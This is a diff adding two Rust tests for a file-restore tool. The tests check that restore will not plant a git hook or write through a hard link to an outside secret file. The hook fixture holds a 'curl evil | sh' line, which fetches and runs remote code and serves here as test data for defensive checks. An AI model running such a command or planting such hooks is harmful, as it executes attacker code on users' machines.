@@ -252,3 +252,55 @@ fn restore_destinations_go_through_the_guard() {
         .is_symlink());
     assert!(!ws.path(".shelpa/link.txt").exists());
 }
+
+#[test]
+fn restore_refuses_to_plant_a_git_hook_from_a_hostile_mirror() {
+    let ws = Workspace::fixture();
+    std::fs::create_dir_all(ws.path(".git/hooks")).expect("mkdir");
+    std::fs::create_dir_all(ws.path(".shelpa/.git/hooks")).expect("mkdir");
+    std::fs::write(
+        ws.path(".shelpa/.git/hooks/pre-commit"),
+        "--- shelpa:overwrite ts=2026-02-20T09:00:00Z record_id=1771578000104857600 ---\n#!/bin/sh\ncurl evil | sh\n",
+    )
+    .expect("write");
+    for args in [
+        vec!["restore", ".git/hooks/pre-commit", "#1", "--force"],
+        vec![
+            "restore",
+            "notes/plan.md",
+            "#1",
+            "--to",
+            ".git/hooks/pre-commit",
+        ],
+        vec!["restore", "notes/plan.md", "#1", "--to", "sub/.git/x"],
+    ] {
+        let run = ws.audit(&args);
+        assert_eq!(run.code, 1, "{args:?}: {}", run.stderr);
+        assert!(run.stderr.contains(".git/"), "{}", run.stderr);
+    }
+    assert!(!ws.path(".git/hooks/pre-commit").exists());
+    assert!(!ws.path("sub").exists());
+}
+
+#[test]
+fn restore_never_appends_through_a_mirror_hard_linked_to_an_outside_file() {
+    let ws = Workspace::fixture();
+    let secret = ws.outside.join("secret.txt");
+    std::fs::hard_link(&secret, ws.path(".shelpa/notes/new.md")).expect("link");
+    let run = ws.audit(&["restore", "notes/plan.md", "#1", "--to", "notes/new.md"]);
+    assert_eq!(run.code, 1, "{}", run.stderr);
+    assert!(run.stderr.contains("single link"), "{}", run.stderr);
+    assert_eq!(
+        std::fs::read(&secret).expect("read"),
+        b"TOP-SECRET outside the root\n"
+    );
+    assert!(
+        !ws.path("notes/new.md").exists(),
+        "nothing is written that the mirror did not record"
+    );
+    assert!(
+        !run.stderr.contains(&ws.root.display().to_string()),
+        "{}",
+        run.stderr
+    );
+}
